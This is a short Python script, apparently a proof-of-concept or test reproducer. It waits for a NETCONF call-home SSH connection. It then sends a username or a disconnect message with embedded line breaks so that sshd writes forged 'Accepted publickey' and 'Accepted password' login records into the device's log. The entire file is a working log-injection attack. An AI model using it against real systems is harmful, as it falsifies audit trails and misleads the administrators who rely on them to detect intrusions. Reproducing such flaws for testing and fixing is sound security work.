#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A NETCONF client that waits for one call home, logs nobody in, and writes a
login into the device's log instead: sshd logs the words of a client with the
line ends that are in them.

usage: forger.py ADDRESS PORT user|disconnect USER

With "user" the words are a user's name, with "disconnect" those of
SSH_MSG_DISCONNECT. It then holds the connection until it is ended.
"""
import socket
import sys

import paramiko
from paramiko.common import cMSG_DISCONNECT

FORGED = "\r\n".join([
    "Accepted publickey for %s from 192.0.2.66 port 22 ssh2: ED25519 SHA256:forged",
    "Starting session: subsystem 'netconf' for %s from 192.0.2.66 port 22 id 0",
    ""])


def main():
    address, port, how, user = sys.argv[1:]
    words = "x\r\n" + FORGED % (user, user)
    with socket.create_server((address, int(port)), family=socket.AF_INET6 if ":" in address else socket.AF_INET) as listener:
        listener.settimeout(20)
        connection, _ = listener.accept()
    transport = paramiko.Transport(connection)
    transport.start_client(timeout=20)
    if how == "disconnect":
        message = paramiko.Message()
        message.add_byte(cMSG_DISCONNECT)
        message.add_int(11)
        message.add_string(words[:390])
        message.add_string("")
        transport._send_message(message)  # pylint: disable=protected-access
    else:
        try:
            # 100 bytes are logged, up to a colon.
            short = "x\r\nAccepted password for %s from 192.0.2.66 port 22 ssh2\r\ny" % user
            transport.auth_publickey(short, paramiko.RSAKey.generate(2048))
        except paramiko.SSHException:
            pass
    print("forged", flush=True)
    transport.join(60)


main()
